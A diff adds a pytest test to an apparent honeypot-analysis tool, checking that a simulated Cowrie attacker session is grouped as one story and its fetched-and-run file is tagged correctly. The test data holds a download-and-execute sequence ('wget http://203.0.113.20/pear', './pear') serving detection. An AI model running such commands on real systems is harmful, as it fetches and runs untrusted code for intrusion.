@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import sqlite3
+from contextlib import closing
 from pathlib import Path
 
 import pytest
@@ -47,3 +49,32 @@ def test_a_file_that_is_fetched_run_and_removed_is_told_as_that(tmp_path: Path) 
     assert (judged["severity"], judged["severity_reason"]) == ("high", "fetched and ran pear.sh")
     assert [phase["phase"] for phase in judged["story"]] == ["access", "deliver", "clean"]
     assert "T1485" not in {row["technique_id"] for row in listed("tags", data)}, "its own file is no data"
+
+
+def test_a_session_of_several_events_is_told_as_one(tmp_path: Path) -> None:
+    log, data = tmp_path / "cowrie.json", tmp_path / "data"
+    padding = [f"echo {n:04} {'x' * 2000} > /dev/null" for n in range(300)]
+    said = ["cd /tmp", "./pear", *padding, "wget http://203.0.113.20/pear", "./pear"]
+    typed = [line("a1", "command.input", START + 2 + n, input=text) for n, text in enumerate(said)]
+    start, close = (
+        line("a1", "session.connect", START),
+        line("a1", "session.closed", START + 400, duration=400.0),
+    )
+    log.write_bytes(b"\n".join([start, *typed, close]) + b"\n")
+    done = run_until_idle(log, data, timeout=120)
+    assert done.returncode == 0, done.stderr.decode()[-2000:]
+
+    with closing(sqlite3.connect(data / "decnet.sqlite")) as database:
+        (parts,) = database.execute("SELECT COUNT(*) FROM ttp_part").fetchone()
+    assert parts > 1, "or it shows nothing"
+    because = {
+        row["source_id"].rpartition("#")[2]: row["evidence"]["because"]
+        for row in listed("tags", data)
+        if row["rule_id"] in ("R0901", "R0906")
+    }
+    fetched = "fetched by line 303: wget http://203.0.113.20/pear"
+    assert because == {"cmd1": fetched, "cmd303": fetched}
+    tags = listed("tags", data)
+    back = cli("backfill", "--since", "7300d", "--data-dir", data)
+    assert back.returncode == 0, back.stderr.decode()
+    assert listed("tags", data) == tags, "back-fill has nothing to add and nothing to take away"
